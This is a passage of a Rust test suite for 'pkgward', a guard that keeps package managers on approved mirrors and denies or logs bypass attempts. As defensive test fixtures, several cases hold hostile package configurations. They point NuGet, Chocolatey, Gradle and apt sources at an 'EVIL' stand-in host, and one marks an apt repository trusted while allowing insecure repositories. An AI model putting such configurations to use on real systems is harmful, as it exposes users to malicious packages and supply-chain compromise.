            failures.push(format!("{}: not recorded as deny", c.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} not denied:\n{}",
        failures.len(),
        corpus.len(),
        failures.join("\n")
    );
    assert_eq!(
        evil().connections().len(),
        before,
        "the unapproved listener was reached"
    );
}

#[test]
fn bypass_corpus_is_recorded_in_audit_mode() {
    let corpus = bypass_corpus();
    let mut failures = Vec::new();
    for c in &corpus {
        let g = guarded(&policy("audit", &[]));
        fake_tools(&g, TOOLS);
        let (args, env) = apply(&g, c);
        let out = run(&g, c.tool, &args, &env);
        let inv = g.last_invocation();
        if out.status.code() != Some(0)
            || g.sb.marker("ran").is_none()
            || inv["decision"]["action"] != "would-deny"
        {
            failures.push(format!(
                "{}: exit {:?}, recorded {}\n{}",
                c.name,
                out.status.code(),
                inv["decision"],
                text(&out.stderr)
            ));
        }
        if !out.stdout.is_empty() {
            failures.push(format!("{}: pkgward wrote to stdout", c.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {}:\n{}",
        failures.len(),
        corpus.len(),
        failures.join("\n")
    );
}

#[test]
fn legit_corpus_has_no_denials() {
    let c = corpus_case;
    let cases = vec![
        c("gem install (builtin)", "gem", &["install", "rake"], &[], &[], ""),
        c("gem approved --source", "gem", &["install", "--clear-sources", "-s", "BASE/gems/", "x"], &[], &[], ""),
        c("gemrc approved", "gem", &["install", "x"], &[], &[("home/.gemrc", "---\n:sources:\n- BASE/gems/\n:verbose: true\n")], ""),
        c("gem local file", "gem", &["install", "./pkg/x-1.0.gem"], &[], &[], ""),
        c("gem list", "gem", &["list"], &[], &[], ""),
        c("bundle approved Gemfile + lock", "bundle", &["install"], &[], &[("work/Gemfile", "source \"BASE/gems/\"\ngemspec\ngem 'y', path: '../y'\n"), ("work/Gemfile.lock", "GEM\n  remote: BASE/gems/\n  specs:\n    x (1.0)\n\nPATH\n  remote: ../y\n  specs:\n    y (1.0)\n")], ""),
        c("bundle exec", "bundle", &["exec", "rake"], &[], &[("work/Gemfile", "source 'https://unapproved.invalid/'\n")], ""),
        c("bundle mirror to approved", "bundle", &["install"], &[], &[("work/Gemfile", "source 'https://upstream.invalid/'\n"), ("home/.bundle/config", "---\nBUNDLE_MIRROR__HTTPS://UPSTREAM__INVALID/: \"BASE/gems/\"\n")], ""),
        c("mvn with approved repositories", "mvn", &["-B", "package"], &[], &[("work/pom.xml", "<project><repositories><repository><id>c</id><url>BASE/maven/</url></repository></repositories></project>")], ""),
        c("mvn settings mirror approved", "mvn", &["install"], &[], &[("home/.m2/settings.xml", "<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>BASE/maven/</url></mirror></mirrors></settings>"), ("work/pom.xml", "<project><repositories><repository><id>x</id><url>https://upstream.invalid/</url></repository></repositories></project>")], ""),
        c("mvn --version", "mvn", &["--version"], &[], &[], ""),
        c("mvn offline", "mvn", &["-o", "package"], &[], &[("work/pom.xml", "<project><repositories><repository><id>x</id><url>https://upstream.invalid/</url></repository></repositories></project>")], ""),
        c("gradle mavenCentral + approved", "gradle", &["build"], &[], &[("work/build.gradle", "repositories {\n  mavenCentral()\n  maven { url 'BASE/maven/' }\n  flatDir { dirs 'libs' }\n}\npublishing { repositories { maven { url 'https://publish.invalid/' } } }\ndescription = 'https://docs.invalid/'\n")], ""),
        c("dotnet restore approved config", "dotnet", &["restore"], &[], &[("work/nuget.config", "<configuration><packageSources><clear/><add key=\"a\" value=\"BASE/nuget/v3/index.json\"/><add key=\"local\" value=\"./packages\"/></packageSources></configuration>")], ""),
        c("dotnet build --no-restore", "dotnet", &["build", "--no-restore"], &[], &[("work/nuget.config", "<configuration><packageSources><add key=\"x\" value=\"https://unapproved.invalid/\"/></packageSources></configuration>")], ""),
        c("dotnet test -s runsettings", "dotnet", &["test", "-s", "x.runsettings"], &[], &[], ""),
        c("nuget restore approved -Source", "nuget", &["restore", "-Source", "BASE/nuget/v3/index.json"], &[], &[], ""),
        c("apt approved list", "apt-get", &["install", "-y", "curl", "./local.deb"], &[("APT_CONFIG", "ROOT/apt.conf")], &[("apt.conf", "Dir::Etc::SourceList \"ROOT/sources.list\";\nDir::Etc::SourceParts \"/dev/null\";\n"), ("sources.list", "deb [signed-by=/usr/share/keyrings/k.gpg] BASE/apt/debian bookworm main\ndeb file:/srv/local ./\n")], ""),
        c("dnf approved repo", "dnf", &["install", "-c", "ROOT/dnf.conf", "x"], &[], &[("dnf.conf", "[main]\nreposdir=ROOT/repos\ngpgcheck=1\n"), ("repos/a.repo", "[a]\nbaseurl=BASE/rpm/os/\ngpgcheck=1\n[off]\nenabled=0\nbaseurl=https://unapproved.invalid/\n")], ""),
        c("choco approved -s", "choco", &["install", "x", "-s", "BASE/choco/"], &[], &[], ""),
        c("choco builtin", "choco", &["install", "x", "-y"], &[], &[], ""),
        c("winget builtin", "winget", &["install", "x", "-s", "winget"], &[], &[], ""),
    ];
    let mut failures = Vec::new();
    for c in &cases {
        let g = guarded(&policy("enforce", &[]));
        fake_tools(&g, TOOLS);
        let (args, env) = apply(&g, c);
        let out = run(&g, c.tool, &args, &env);
        if out.status.code() != Some(0) || g.sb.marker("ran").is_none() {
            failures.push(format!(
                "{}: exit {:?}\n{}",
                c.name,
                out.status.code(),
                text(&out.stderr)
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {}:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// Mirrors forced through arguments, seen by stand-in tools.
#[test]
fn mirrors_are_forced_through_arguments() {
    let b = base();
    let cases: Vec<(Case, &str, &str)> = vec![
        (
            corpus_case("dotnet restore", "dotnet", &["restore", "app.csproj"], &[], &[("work/nuget.config", "<configuration><packageSources><add key=\"e\" value=\"EVIL/v3/index.json\"/></packageSources></configuration>")], ""),
            "nuget",
            "restore\n--source\nBASE/nuget/v3/index.json\napp.csproj\n",
        ),
        (
            corpus_case("dotnet test", "dotnet", &["test"], &[], &[("work/nuget.config", "<configuration><packageSources><add key=\"e\" value=\"EVIL/v3/index.json\"/></packageSources></configuration>")], ""),
            "nuget",
            "test\n--property:RestoreSources=BASE/nuget/v3/index.json\n",
        ),
        (
            corpus_case("nuget restore", "nuget", &["restore"], &[], &[("home/.nuget/NuGet/NuGet.Config", "<configuration><packageSources><add key=\"e\" value=\"EVIL/\"/></packageSources></configuration>")], ""),
            "nuget",
            "restore\n-Source\nBASE/nuget/v3/index.json\n",
        ),
        (
            corpus_case("choco install", "choco", &["install", "git", "-y"], &[("ChocolateyInstall", "ROOT/choco")], &[("choco/config/chocolatey.config", "<chocolatey><sources><source id=\"e\" value=\"EVIL/api/v2/\"/></sources></chocolatey>")], ""),
            "choco",
            "install\n--source=BASE/choco/\ngit\n-y\n",
        ),
        (
            corpus_case("gradle build", "gradle", &["build"], &[], &[("work/build.gradle", "repositories {\n  maven { url 'EVIL/m2' }\n  mavenCentral()\n}\n")], ""),
            "maven",
            "-I\n",
        ),
        (
            corpus_case("apt-get update", "apt-get", &["update"], &[("APT_CONFIG", "ROOT/apt.conf")], &[("apt.conf", "Dir::Etc::SourceList \"ROOT/sources.list\";\nDir::Etc::SourceParts \"/dev/null\";\nAcquire::AllowInsecureRepositories \"true\";\n"), ("sources.list", "deb [trusted=yes] EVIL/debian bookworm main\n")], ""),
            "apt",
            "update\n-o\nAcquire::AllowInsecureRepositories=false\n-o\n",
        ),
    ];
    let mut failures = Vec::new();
    for (c, eco, want) in &cases {
        let mirror = match *eco {
            "nuget" => format!("{b}/nuget/v3/index.json"),
            "choco" => format!("{b}/choco/"),
            "maven" => format!("{b}/maven/"),
            _ => format!("{b}/apt/debian"),
        };
        let g = guarded(&policy("enforce", &[(eco, &mirror)]));
        fake_tools(&g, TOOLS);
        let (args, env) = apply(&g, c);
        let out = run(&g, c.tool, &args, &env);
        let ran = g.sb.marker("ran").unwrap_or_default();
        let want = want.replace("BASE/", &format!("{b}/"));
        if !out.status.success() || !ran.starts_with(&want) {
            failures.push(format!(
                "{}: exit {:?}, argv\n{ran}\nwant prefix\n{want}\n{}",
                c.name,
                out.status.code(),
                text(&out.stderr)
            ));
            continue;
        }
        let generated = g.sb.marker("generated").unwrap_or_default();
        match *eco {
            "maven" if !generated.contains(&mirror) || !ran.contains("mirror.gradle") => {
                failures.push(format!("{}: init script\n{generated}", c.name))
            }
            "apt"
                if !generated.contains(&format!("deb {mirror} bookworm main"))
                    || generated.contains("trusted") =>
            {
                failures.push(format!("{}: sources list\n{generated}", c.name))
            }
            _ => {}
        }
        if g.last_invocation()["decision"]["action"] != "allow" {
            failures.push(format!("{}: not allowed", c.name));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
